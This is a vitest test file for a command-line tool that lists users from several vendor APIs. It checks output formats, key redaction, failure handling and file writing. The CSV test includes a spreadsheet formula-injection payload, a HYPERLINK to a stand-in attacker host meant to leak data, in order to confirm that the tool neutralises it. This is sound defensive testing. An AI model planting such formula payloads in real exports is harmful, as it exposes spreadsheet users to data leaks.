import { mkdir, mkdtemp, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { expectDirEntries, expectNoKeys, parseCsv } from '../support/assertions.js';
import { FAKE_ENV, FAKE_KEYS, FORMULA_NAME, useFakeVendors } from '../support/fake-vendors.js';
import { runMain } from '../support/run-main.js';

// In-process: `main()` against the local fake vendors. The binary itself runs in test/e2e/.

const setup = useFakeVendors('orgdir-cli-');

/** `orgdir directory` against the fake vendors, with every key set. */
function directory(args: string[], env: Record<string, string> = FAKE_ENV, stderrIsTTY = false) {
  return runMain(['directory', ...setup.fake.flags, '--max-retries', '0', ...args], { env, stderrIsTTY });
}

/** The users of `directory --format json`. */
const usersOf = (stdout: string) => (JSON.parse(stdout) as { users: Array<{ vendor: string }> }).users;
/** The per-vendor summary of `directory --format json`. */
const vendorsOf = (stdout: string) =>
  (JSON.parse(stdout) as { vendors: Array<{ vendor: string; status: string }> }).vendors;

/** What the progress line starts with: carriage return, then erase the line. */
const ERASE_LINE = '\r\u001b[2K';

/** The one notice for the Flashback record that has no email. */
const UNMAPPED_NOTICE = 'orgdir: flashback: could not map record 4 (id "f-4"): missing email\n';

const ALL_EMAILS = [
  'alice@example.com',
  'owner@example.com',
  'bob@example.com',
  'eve@example.com',
  'john.doe@example.com',
  'gone@example.com',
  'jane@example.com',
  'plus@example.com',
];

describe('orgdir directory: formats', () => {
  it.each([
    [
      'table',
      (out: string) =>
        out
          .split('\n')
          .filter((l) => l.includes('@example.com'))
          .map((l) => /\S+@example\.com/.exec(l)?.[0]),
    ],
    ['json', (out: string) => (JSON.parse(out) as { users: Array<{ email: string }> }).users.map((u) => u.email)],
    [
      'ndjson',
      (out: string) =>
        out
          .trimEnd()
          .split('\n')
          .map((l) => (JSON.parse(l) as { email: string }).email),
    ],
    [
      'csv',
      (out: string) =>
        parseCsv(out)
          .slice(1)
          .map((r) => r[2]),
    ],
  ])('--format %s prints every user of every vendor, exit 0', async (format, emails) => {
    const result = await directory(['--format', format]);
    expect(result.stderr).toBe(UNMAPPED_NOTICE);
    expect(result.code).toBe(0);
    expect(emails(result.stdout).sort()).toEqual([...ALL_EMAILS].sort());
    expectNoKeys(result);
  });

  it('table: aligned columns and one summary line per vendor', async () => {
    const { stdout, code } = await directory([]);
    expect(code).toBe(0);
    const lines = stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^VENDOR +EMAIL +NAME +STATUS +ROLE +GROUPS$/);
    const emailColumn = lines[0]?.indexOf('EMAIL');
    for (const line of lines.slice(1, 9)) expect(line.indexOf('@') > (emailColumn ?? 0)).toBe(true);
    expect(lines.slice(-3)).toEqual([
      'telnyx: 3 users',
      'flashback: 3 users, 1 not mapped (see stderr)',
      'openai: 2 users',
    ]);
  });

  it('json: the normalized fields, no raw unless --raw', async () => {
    const plain = (
      JSON.parse((await directory(['--format', 'json'])).stdout) as { users: Array<Record<string, unknown>> }
    ).users;
    expect(plain.find((u) => u.id === 't-2')).toEqual({
      vendor: 'telnyx',
      id: 't-2',
      email: 'owner@example.com',
      status: 'active',
      role: 'owner',
      groups: [],
      createdAt: '2023-01-01T00:00:00.000Z',
    });
    expect(plain.find((u) => u.id === 'user-1')).toMatchObject({ groups: ['Support Team', 'Sales'], role: 'owner' });
    expect(plain.find((u) => u.id === 'f-3')).toMatchObject({ status: 'deleted', role: 'workspaces' });
    expect(plain.some((u) => 'raw' in u)).toBe(false);
    const raw = (
      JSON.parse((await directory(['--format', 'json', '--raw'])).stdout) as { users: Array<Record<string, unknown>> }
    ).users;
    expect(raw.find((u) => u.id === 't-3')?.raw).toMatchObject({
      record_type: 'organization_sub_user',
      user_status: 'disabled',
    });
  });

  it('csv: RFC 4180 with CRLF, header first, formulas neutralised', async () => {
    const { stdout, code } = await directory(['--format', 'csv']);
    expect(code).toBe(0);
    expect(stdout.startsWith('vendor,id,email,name,status,role,groups,createdAt,lastSignInAt\r\n')).toBe(true);
    expect(stdout.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(stdout);
    expect(rows.every((r) => r.length === 9)).toBe(true);
    expect(rows.find((r) => r[1] === 'f-1')?.[3]).toBe(`'${FORMULA_NAME}`);
    expect(rows.find((r) => r[1] === 'user-2')?.[3]).toBe(`'+1 "quoted"`);
    expect(rows.find((r) => r[1] === 'user-1')?.[3]).toBe('Doe, Jane');
    expect(rows.find((r) => r[1] === 't-1')?.[6]).toBe('Engineering; Sales');
    // the raw text: the formula cell is quoted (it holds quotes and a comma) and starts with the quote mark
    expect(stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click me"")"`);
  });
});

describe('orgdir directory: vendors and keys', () => {
  it('--vendors queries only those vendors', async () => {
    const result = await directory(['--vendors', 'flashback,telnyx', '--format', 'json']);
    expect(result.code).toBe(0);
    const vendors = new Set(usersOf(result.stdout).map((u) => u.vendor));
    expect([...vendors].sort()).toEqual(['flashback', 'telnyx']);
    expect(setup.fake.requests.some((r) => r.vendor === 'openai')).toBe(false);
  });

  it('sends each key as a bearer token to its own vendor only', async () => {
    await directory(['--format', 'json']);
    expect(new Set(setup.fake.requests.map((r) => r.vendor)).size).toBe(3);
    for (const r of setup.fake.requests) expect(r.authorization).toBe(`Bearer ${FAKE_KEYS[r.vendor]}`);
  });

  it('skips a vendor without a key with one notice, exit 0', async () => {
    const { FLASHBACK_API_KEY: _omit, ...env } = FAKE_ENV;
    const result = await directory(['--format', 'json'], env);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('orgdir: skipping flashback: FLASHBACK_API_KEY is not set (or run with --mock)\n');
    expect(usersOf(result.stdout).some((u) => u.vendor === 'flashback')).toBe(false);
    expect(vendorsOf(result.stdout).find((v) => v.vendor === 'flashback')).toEqual({
      vendor: 'flashback',
      status: 'skipped',
      users: 0,
      unmapped: [],
      error: 'FLASHBACK_API_KEY not set',
    });
  });

  it('the table summarises a skipped vendor', async () => {
    const { OPENAI_ADMIN_KEY: _omit, ...env } = FAKE_ENV;
    const result = await directory([], env);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/\nopenai: skipped \(OPENAI_ADMIN_KEY not set\)\n$/);
  });

  it('exits 2 when no vendor has a key', async () => {
    const result = await directory([], {});
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('no vendor to query');
    expect(result.stdout).toBe('');
  });
});

describe('orgdir directory: failures', () => {
  it('a failing vendor: the others are printed, one line on stderr, exit 1', async () => {
    setup.fake.behave('openai', { status: 401 });
    const result = await directory(['--format', 'json']);
    expect(result.code).toBe(1);
    const vendors = new Set(usersOf(result.stdout).map((u) => u.vendor));
    expect([...vendors].sort()).toEqual(['flashback', 'telnyx']);
    expect(vendorsOf(result.stdout).map((v) => [v.vendor, v.status])).toEqual([
      ['telnyx', 'complete'],
      ['flashback', 'complete'],
      ['openai', 'failed'],
    ]);
    const lines = result.stderr
      .trimEnd()
      .split('\n')
      .filter((l) => `${l}\n` !== UNMAPPED_NOTICE);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^orgdir: openai: 401 /);
    expectNoKeys(result);
  });

  it('the table reports the failed vendor in its summary', async () => {
    setup.fake.behave('telnyx', { status: 403 });
    const result = await directory([]);
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(
      /\ntelnyx: failed \(403 .*\)\nflashback: 3 users, 1 not mapped \(see stderr\)\nopenai: 2 users\n$/,
    );
  });

  it('a key echoed back by a failing vendor is redacted', async () => {
    setup.fake.behave('telnyx', { status: 401, echoAuthorization: true });
    const result = await directory(['--vendors', 'telnyx']);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/Bad header: Bearer \[redacted\]/);
    expectNoKeys(result);
  });

  it('a network error (nothing listening) exits 1 naming the vendor', async () => {
    const result = await runMain(
      ['directory', '--vendors', 'telnyx', '--max-retries', '0', '--base-url-telnyx', 'http://127.0.0.1:9/v2'],
      { env: FAKE_ENV },
    );
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^orgdir: telnyx: .+\n$/);
    expectNoKeys(result);
  });

  it('a non-https, non-loopback base URL is a usage error (exit 2)', async () => {
    const result = await runMain(['directory', '--vendors', 'telnyx', '--base-url-telnyx', 'http://example.com/v2'], {
      env: FAKE_ENV,
    });
    expect(result.code).toBe(2);
    expectNoKeys(result);
  });
});

describe('orgdir directory: usage errors exit 2', () => {
  it.each([
    ['unknown vendor', ['--vendors', 'telnyx,slack'], /unknown vendor slack/],
    ['unknown format', ['--format', 'xml'], /xml/],
    ['unknown option', ['--colour'], /unknown option/],
    ['excess argument', ['extra'], /too many arguments|unknown/i],
    ['--mock with a base URL', ['--mock'], /cannot be used with/],
    ['bad --max-retries', ['--max-retries', 'lots'], /integer/],
  ])('%s', async (_name, args, message) => {
    const result = await directory(args);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stdout).toBe('');
    expect(setup.fake.requests).toHaveLength(0);
  });
});

describe('orgdir directory --output', () => {
  it.each(['table', 'json', 'ndjson', 'csv'])(
    '--format %s: the file holds exactly what stdout would',
    async (format) => {
      const out = await mkdtemp(join(setup.dir, 'ok-'));
      const file = join(out, `dir.${format}`);
      const written = await directory(['--format', format, '--output', file]);
      const printed = await directory(['--format', format]);
      expect(written.code).toBe(0);
      expect(written.stdout).toBe('');
      expect(written.stderr).toBe(`${UNMAPPED_NOTICE}orgdir: wrote 8 users to ${file}\n`);
      expect(await readFile(file, 'utf8')).toBe(printed.stdout);
      await expectDirEntries(out, [`dir.${format}`]);
    },
  );

  it('--quiet drops the "wrote" notice', async () => {
    const out = await mkdtemp(join(setup.dir, 'quiet-'));
    const result = await directory(['--format', 'json', '--output', join(out, 'dir.json'), '--quiet']);
    expect(result.code).toBe(0);
    // Warnings still print: the unmapped record is not informational.
    expect(result.stderr).toBe(UNMAPPED_NOTICE);
    await expectDirEntries(out, ['dir.json']);
  });

  it('a failing vendor leaves no file and no temp file, exit 1', async () => {
    setup.fake.behave('flashback', { status: 500 });
    const out = await mkdtemp(join(setup.dir, 'fail-'));
    const result = await directory(['--format', 'csv', '--output', join(out, 'dir.csv')]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('not writing');
    expect(result.stderr).toMatch(/orgdir: flashback: 500 /);
    await expectDirEntries(out, []);
  });

  it('a failing vendor leaves an existing file untouched', async () => {
    const out = await mkdtemp(join(setup.dir, 'keep-'));
    const file = join(out, 'dir.json');
    await directory(['--format', 'json', '--output', file]);
    const before = await readFile(file, 'utf8');
    setup.fake.behave('openai', { status: 500 });
    expect((await directory(['--format', 'json', '--output', file])).code).toBe(1);
    expect(await readFile(file, 'utf8')).toBe(before);
    await expectDirEntries(out, ['dir.json']);
  });

  it.each([
    ['missing directory', (out: string) => join(out, 'nope', 'dir.csv'), [] as string[]],
    ['target is a directory', (out: string) => join(out, 'taken'), ['taken']],
  ])('unwritable target (%s): exit 4 naming the path asked for, no temp file', async (_name, target, entries) => {
    const out = await mkdtemp(join(setup.dir, 'unwritable-'));
    await mkdir(join(out, 'taken'));
    const result = await directory(['--format', 'csv', '--output', target(out)]);
    expect(result.code).toBe(4);
    expect(result.stderr).toMatch(new RegExp(`^orgdir: cannot write ${target(out)}: .*\\((ENOENT|EISDIR)\\)$`, 'm'));
    expect(result.stderr).not.toContain('.tmp');
    await expectDirEntries(
      out,
      ['taken', ...entries].filter((v, i, a) => a.indexOf(v) === i),
    );
  });
});

describe('orgdir directory: progress', () => {
  it('draws a progress line in place when stderr is a TTY, then erases it', async () => {
    const result = await directory(['--format', 'json'], FAKE_ENV, true);
    expect(result.code).toBe(0);
    expect(result.stderr.startsWith(`${ERASE_LINE}fetching users: `)).toBe(true);
    // The last drawing names every vendor with its count so far.
    expect(result.stderr).toMatch(/fetching users: (?=.*telnyx \d)(?=.*flashback \d)(?=.*openai \d)/);
    // Erased before anything else is written to stderr.
    expect(result.stderr.endsWith(`${ERASE_LINE}${UNMAPPED_NOTICE}`)).toBe(true);
    expect(usersOf(result.stdout)).toHaveLength(8);
  });

  it('--quiet draws no progress line, even on a TTY', async () => {
    const result = await directory(['--quiet'], FAKE_ENV, true);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(UNMAPPED_NOTICE);
    expect(result.stdout).toContain('openai: 2 users');
  });

  it('never writes a progress line when stderr is not a TTY', async () => {
    const result = await directory([]);
    expect(result.stderr).not.toContain('\r');
    expect(result.stderr).not.toContain('fetching');
  });
});
